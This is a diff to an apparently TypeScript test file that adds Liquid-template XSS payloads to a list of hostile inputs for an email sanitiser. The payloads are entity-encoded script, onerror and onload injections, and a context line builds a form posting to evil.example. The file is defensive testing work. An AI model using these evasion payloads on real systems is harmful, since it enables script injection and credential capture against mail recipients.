@@ -25,6 +25,11 @@ const HOSTILE: string[] = [
   `<a href="{{ 'java%0Ascript:alert(1)' | url_decode }}">link</a>`,
   `<img src="{{ 'javascript:alert(1)' }}">`,
   '{{ "%3Cform action=%22https://evil.example%22%3E%3Cinput name=p%3E%3C/form%3E" | url_decode | raw }}',
+  // Entities inside a Liquid tag are read back before Liquid parses it (decision 301): markup so built is sanitised
+  // as it is sent.
+  '{% if 2 > 1 %}{{ "%3Cscript%3Ealert(1)%3C/script%3E" | url_decode | raw }}{% endif %}',
+  '{% assign s = "&lt;img src=x onerror=alert(1)&gt;" %}{{ s | raw }}',
+  '{% if 1 < 2 %}{% echo "&lt;svg onload=alert(1)&gt;" | raw %}{% endif %}',
 ];
 
 // What a recipient's mail client may run: a script, an event handler, a javascript: URL, a frame or a form (as
